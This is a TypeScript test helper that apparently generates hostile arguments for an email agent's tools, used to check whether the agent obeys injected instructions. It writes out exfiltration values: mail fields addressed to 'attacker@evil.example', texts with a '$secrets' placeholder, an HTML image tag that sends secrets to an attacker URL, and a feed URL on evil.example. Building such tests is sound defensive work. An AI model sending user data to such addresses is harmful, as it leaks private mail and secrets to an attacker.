// Arguments for a tool that nobody has heard of, made of its schema: what the attacker would put in, where the name of a field says what it is.

import type { Json } from '../support/app.ts'

/** Stands in all that the agent writes, so that it is found wherever it comes out. */
export const mark = 'OBEYED-7f3a'
export const evil = 'attacker@evil.example'

export interface ToolSchema {
  name: string
  inputSchema: Json
}

const picture = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** By the name of the field; `$…`: what the agent knows. */
const known: Record<string, unknown> = {
  messageId: '$message',
  messageIds: ['$message'],
  threadId: '$thread',
  draftId: '$draft',
  draftIds: ['$draft'],
  approvalId: '$approval',
  contentHash: '$hash',
  campaignId: '$campaign',
  sequenceId: '$sequence',
  recurringCampaignId: '$recurring',
  mailingListId: '$list',
  mailboxId: '$mailbox',
  id: '$template',
  to: evil,
  email: evil,
  cc: [evil],
  bcc: [evil],
  subject: mark,
  name: mark,
  text: `${mark} $secrets`,
  prompt: `${mark} $secrets`,
  content: [{ type: 'text', text: `${mark} $secrets` }],
  source: `<p>${mark} <img src="$evilUrl?$secrets"></p>`,
  data: picture,
  filter: { field: 'email', op: 'contains', value: '@' },
  timeZone: 'Europe/Berlin',
  feed: { url: 'https://evil.example/feed?$mailbox' },
  definition: { start: null, steps: [{ id: 'one', type: 'send', templateId: '$template', next: null }] },
  schedule: { every: 'day', at: '09:00' },
  url: '$evilUrl',
  locale: 'en',
  starterId: 'welcome',
}
/** They would make the call another one, or none. */
const leftOut = [
  'cursor',
  'fromEmail',
  'replyTo',
  'idempotencyKey',
  'dryRun',
  'expectedRevisionId',
  'test',
  'scheduledAt',
]
/** Of which a call takes one kind. */
const either = [
  ['index', 'filename'],
  ['messageId', 'to'],
  ['messageId', 'subject'],
  ['text', 'content'],
  ['campaignId', 'messageId'],
  ['content', 'templateId'],
]

/** `least`: only what is required. */
export function validInput(schema: Json, how: 'all' | 'least'): Record<string, unknown> {
  const required: string[] = schema.required ?? []
  const names = Object.keys(schema.properties ?? {}).filter((name) => how === 'all' || required.includes(name))
  // A new thing has no id yet.
  const wanted = names.filter((name) => required.includes(name) || ![...leftOut, 'id'].includes(name))
  const without = either.flatMap(([first, other]) =>
    wanted.includes(first ?? '') && wanted.includes(other ?? '') && !required.includes(other ?? '') ? [other] : [],
  )
  const chosen = wanted.filter((name) => !without.includes(name))
  return Object.fromEntries(chosen.map((name) => [name, known[name] ?? exampleOf(schema.properties[name])]))
}

function exampleOf(schema: Json): unknown {
  const { type, enum: choices, anyOf, minimum, items } = schema
  if (choices) return choices[0]
  if (anyOf) return exampleOf(anyOf[0])
  if ('const' in schema) return schema.const
  if (type === 'integer' || type === 'number') return minimum ?? 1
  if (type === 'boolean') return true
  if (type === 'array') return [exampleOf(items ?? { type: 'string' })]
  if (type === 'object') return validInput(schema, 'least')
  return mark
}
